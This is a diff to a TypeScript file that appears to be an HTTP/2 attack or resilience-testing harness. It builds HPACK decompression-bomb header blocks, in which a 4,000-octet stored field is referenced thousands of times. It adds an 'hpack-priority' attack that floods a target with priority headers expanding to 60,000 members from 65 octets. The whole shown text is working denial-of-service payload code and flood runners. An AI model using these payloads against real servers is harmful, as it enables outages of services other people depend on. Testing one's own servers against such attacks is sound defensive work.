@@ -22,18 +22,24 @@ const longBlock = Buffer.concat([block('/small/0/50'), encodeLiterals([['x', 'y'
 const manyFields = Buffer.concat([block('/small/0/50'), Buffer.concat(Array(2_040).fill(Buffer.of(0, 1, 0x78, 0)))]);
 
 /** A field of 4,000 octets that goes into the table, … */
-const storedField = Buffer.concat([Buffer.of(0x40, 1, 0x78, 0x7f, 0xa1, 0x1e), Buffer.alloc(4_000, 'x')]);
+function stored(name: string, filling: string): Buffer {
+  const head = [Buffer.of(0x40, name.length), Buffer.from(name), Buffer.of(0x7f, 0xa1, 0x1e)];
+  return Buffer.concat([...head, Buffer.alloc(4_000, filling)]);
+}
+
+const storedField = stored('x', 'x');
+const storedPriority = stored('priority', ',');
 /** … and the first entry of the dynamic table: one octet for each of its 4,033. */
 const FIRST = 0xbe;
 const bomb = Buffer.concat([block('/small/0/50'), storedField, Buffer.alloc(12_000, FIRST)]);
 const bombAgain = Buffer.concat([block('/small/0/50'), Buffer.alloc(16_000, FIRST)]);
 
 /** As much of the bomb as is no request too large, with a field more or less so that no two requests are alike. */
-function underTheLimit(n: number): Buffer {
+function underTheLimit(n: number, field = storedField): Buffer {
   const fields = Buffer.alloc(15, FIRST);
   const path = block('/small/0/0');
   const filler = Buffer.of(0, 1, 0x61 + (n % 26), 1, 0x61 + (n % 25));
-  if (n === 0) return get(streamId(n), Buffer.concat([path, storedField, fields]));
+  if (n === 0) return get(streamId(n), Buffer.concat([path, field, fields]));
   return get(streamId(n), n % 2 === 0 ? Buffer.concat([path, fields]) : Buffer.concat([path, filler, fields]));
 }
 
@@ -168,7 +174,16 @@ export const H2_HEADERS: readonly Attack[] = [
     protocol: 'h2',
     sees: 'is served as any client',
     ends: /^open$/,
-    run: (target) => flood(target, underTheLimit, { begin: WIDE, batch: 40, after: { unanswered: 40 } }),
+    run: (target) => flood(target, (n) => underTheLimit(n), { begin: WIDE, batch: 40, after: { unanswered: 40 } }),
+  },
+  {
+    name: 'hpack-priority',
+    title: 'HPACK: a priority of 60,000 members in 65 octets, again and again',
+    protocol: 'h2',
+    sees: 'is served as any client',
+    ends: /^open$/,
+    run: (target) =>
+      flood(target, (n) => underTheLimit(n, storedPriority), { begin: WIDE, batch: 40, after: { unanswered: 40 } }),
   },
   {
     name: 'table-churn',
